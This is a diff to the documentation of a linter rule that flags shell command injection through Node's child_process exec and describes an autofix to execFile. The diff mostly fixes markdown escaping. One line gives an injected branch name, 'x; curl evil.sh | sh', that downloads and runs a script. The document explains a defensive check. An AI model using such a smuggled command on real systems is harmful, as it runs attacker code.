@@ -101,7 +101,7 @@ run the command through a shell (\`/bin/sh -c\`, \`cmd.exe /s /c\`). Names resol
 
 ## Why is this bad?
 The command is a shell script. A value built into it can end the intended command and start
-others with \`;\`, \`&&\`, \`|\`, \`$(…)\` or backquotes: \`exec(\\\`git log \${branch}\\\`)\` with a
+others with \`;\`, \`&&\`, \`|\`, \`$(…)\` or backquotes: \`\` exec(\`git log \${branch}\`) \`\` with a
 branch named \`x; curl evil.sh | sh\` runs the download (CWE-78).
 
 ## Example
@@ -126,8 +126,8 @@ followed. Calls with \`shell: true\` are B602.
 ## Fix safety
 For a template literal whose fixed text is plain words (letters, digits, \`_-./:=@+,\`, spaces)
 and whose first word is fixed, the fix calls \`execFile\` (\`execFileSync\`) with the program and
-an argument array, one element per word: \`\\\`git log \${ref}\\\`\` → \`'git', ['log', ref]\`, and
-\`\\\`--out=\${dir}\\\`\` stays one template element. The callback and options stay as they are. It
+an argument array, one element per word: \`\` \`git log \${ref}\` \`\` → \`'git', ['log', ref]\`, and
+\`\` \`--out=\${dir}\` \`\` stays one template element. The callback and options stay as they are. It
 reuses the file's \`execFile\` or \`child_process\` import (\`cp.execFile\`), else adds \`execFile\`
 next to the import or \`require\` of \`exec\` (renaming it when \`exec\` is used nowhere else),
 else imports \`child_process\` the way the file imports modules. It is offered only when the options cannot ask for a shell (none, or an
